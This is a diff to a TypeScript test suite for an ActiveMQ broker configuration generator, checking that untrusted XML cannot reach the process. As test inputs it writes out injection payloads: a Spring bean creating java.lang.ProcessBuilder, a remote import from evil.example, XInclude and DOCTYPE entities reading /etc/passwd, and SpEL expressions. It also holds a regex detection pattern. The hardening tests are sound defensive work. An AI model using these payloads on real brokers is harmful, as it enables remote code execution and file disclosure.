@@ -34,7 +34,11 @@ function prepared(document: string | undefined, users: readonly PlannedUser[] = 
 }
 
 const xml = (document: string | undefined, users: readonly PlannedUser[] = []) =>
-  activemqConfiguration(prepared(document, users), ['ssl', 'stomp+ssl'], { file: '/k.p12', password: 'k' });
+  activemqConfiguration(
+    prepared(document, users),
+    ['ssl', 'stomp+ssl'],
+    { file: '/k.p12', password: 'k' },
+  );
 const broker = (content: string) =>
   `<broker xmlns="http://activemq.apache.org/schema/core">${content}</broker>`;
 const user = (password: string): PlannedUser => ({
@@ -68,20 +72,103 @@ describe('the configuration of an ActiveMQ broker', () => {
     [
       'settings of the store stay, its place does not',
       '<persistenceAdapter><kahaDB directory="/elsewhere" checkpointInterval="6000"/></persistenceAdapter>',
-      /<kahaDB directory="\/data\/b-1\/data\/kahadb" checkpointInterval="6000"\/>/,
+      /<kahaDB checkpointInterval="6000" directory="\/data\/b-1\/data\/kahadb"\/>/,
     ],
     [
       'plugins come after the sign-in',
       '<plugins><statisticsBrokerPlugin/></plugins>',
       /<\/simpleAuthenticationPlugin>\s*<statisticsBrokerPlugin\/>/,
     ],
-    [
-      'what Spring would run as a program is text',
-      '<destinations><queue physicalName="#{T(java.lang.System).exit(1)}"/></destinations>',
-      /physicalName="#\{'#\{'\}T\(java\.lang\.System\)\.exit\(1\)\}"/,
-    ],
   ])('%s', (_, content, expected) => {
     expect(xml(broker(content))).toMatch(expected);
+  });
+
+  /** What a document must not bring to the process: a class, a file, an address that is not a broker's. */
+  const REACH = /evil|ProcessBuilder|\/etc\/|0\.0\.0\.0|61616|61617"|java:\/\/|xi:|jaas|hooks|file:/i;
+
+  test.each([
+    [
+      'a bean of Spring',
+      '<bean xmlns="http://www.springframework.org/schema/beans" class="java.lang.ProcessBuilder"/>',
+    ],
+    [
+      'a bean of Spring by a prefix',
+      '<b:bean xmlns:b="http://www.springframework.org/schema/beans" class="java.lang.ProcessBuilder"/>',
+    ],
+    ['a further document', '<import resource="http://evil.example/x.xml"/>'],
+    ['a class by its name', '<x:ProcessBuilder xmlns:x="java://java.lang"/>'],
+    [
+      'an included file',
+      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
+    ],
+    ['a hook', '<shutdownHooks><hooks class="x"/></shutdownHooks>'],
+    [
+      'a plain port',
+      '<transportConnectors><transportConnector name="openwire" uri="tcp://0.0.0.0:61616"/></transportConnectors>',
+    ],
+    ['another sign-in', '<plugins><jaasAuthenticationPlugin configuration="x"/></plugins>'],
+    [
+      'another store',
+      '<persistenceAdapter><kahaDB directory="/etc/x" indexDirectory="/etc/y"/></persistenceAdapter>',
+    ],
+    ['a database', '<persistenceAdapter><jdbcPersistenceAdapter dataSource="#evil"/></persistenceAdapter>'],
+    ['other keys', '<sslContext><sslContext trustStore="http://evil.example/x"/></sslContext>'],
+    [
+      'a management port',
+      '<managementContext><managementContext connectorHost="0.0.0.0"/></managementContext>',
+    ],
+    [
+      'a proxy',
+      '<proxyConnectors><proxyConnector bind="tcp://0.0.0.0:1" remote="tcp://evil:1"/></proxyConnectors>',
+    ],
+    ['a system property', '<destinations><queue physicalName="${evil}"/></destinations>'],
+    ['an expression', '<destinations><queue physicalName="#{T(evil).run()}"/></destinations>'],
+    [
+      'a class by a resource',
+      '<destinationPolicy><policyMap><policyEntries><policyEntry queue="q" messageGroupMapFactoryType="../evil"/>' +
+        '</policyEntries></policyMap></destinationPolicy>',
+    ],
+    ['an instruction', '<?evil href="file:///etc/passwd"?>'],
+    ['text', '<![CDATA[<bean class="evil"/>]]>evil'],
+  ])('%s of a document does not reach the process', (_, content) => {
+    expect(content).toMatch(REACH);
+    expect(xml(broker(content))).not.toMatch(REACH);
+  });
+
+  test.each([
+    ...['dataDirectory="/etc/x"', 'tmpDataDirectory="/etc/x"', 'schedulerDirectory="/etc/x"', 'class="evil"'],
+    ...[
+      'vmConnectorURI="vm://evil?brokerConfig=xbean:http://evil.example"',
+      'init-method="evil"',
+      'useJmx="evil"',
+    ],
+    ...['xmlns:p="java://evil" p:evil="x"', 'persistenceFactory="#evil"', 'services="#evil"', 'id="evil"'],
+  ])('an attribute of the broker does not reach the process: %s', (attribute) => {
+    const text = xml(`<broker xmlns="http://activemq.apache.org/schema/core" ${attribute}/>`);
+    expect(text).not.toMatch(REACH);
+    expect(text).toContain('useJmx="false"');
+  });
+
+  test.each([
+    ['<!DOCTYPE broker [<!ENTITY x SYSTEM "file:///etc/passwd">]>', /DOCTYPE/],
+    ['<!DOCTYPE broker SYSTEM "http://evil.example/x.dtd">', /DOCTYPE/],
+  ])('a document with %s does not run', (declaration, sentence) => {
+    expect(() => xml(`${declaration}${broker('')}`)).toThrow(sentence);
+  });
+
+  test('a document that asks an LDAP server who may do what does not run', () => {
+    const ldap = '<authorizationPlugin><map><cachedLDAPAuthorizationMap/></map></authorizationPlugin>';
+    expect(() => xml(broker(`<plugins>${ldap}</plugins>`))).toThrow(/does not ask an LDAP server/);
+  });
+
+  test('the ways to group messages that ActiveMQ has stay', () => {
+    const text = xml(
+      broker(
+        '<destinationPolicy><policyMap><policyEntries><policyEntry queue="q" ' +
+          'messageGroupMapFactoryType="cached?cacheSize=5000"/></policyEntries></policyMap></destinationPolicy>',
+      ),
+    );
+    expect(text).toContain('messageGroupMapFactoryType="cached?cacheSize=5000"');
   });
 
   const connected = (attributes: string) => {
@@ -116,12 +203,18 @@ describe('the configuration of an ActiveMQ broker', () => {
     'uri="static:(ssl://a:1)" brokerURL="vm://x?brokerConfig=xbean:x.xml"',
   ])('a network connector that could run a program is left out, and the log says so: %s', (attributes) => {
     expect(connected(attributes)).not.toContain('<networkConnector ');
-    expect(notes.join()).toMatch(/network connector of b-1 .* runs without it/);
+    expect(notes.join()).toMatch(/^A network connector .* b-1 runs without it\.$/);
   });
 
-  test('a user has its groups, and a password that is text', () => {
-    expect(xml(undefined, [user('a &<"> #{1} word')])).toContain(
-      `<authenticationUser username="alice" password="a &amp;&lt;&quot;&gt; #{'#{'}1} word" groups="admins,staff"/>`,
+  test.each([
+    ['a &<"> #{1} word', "a &amp;&lt;&quot;&gt; #{'#{'}1} word"],
+    ['#a bean of XBean', '##a bean of XBean'],
+    ['##two', '###two'],
+    ['#{1+1}', "##{'#{'}1+1}"],
+    ['${user.home}', '${user.home}'],
+  ])('a user has its groups, and a password that is text: %s', (password, written) => {
+    expect(xml(undefined, [user(password)])).toContain(
+      `<authenticationUser username="alice" password="${written}" groups="admins,staff"/>`,
     );
   });
 
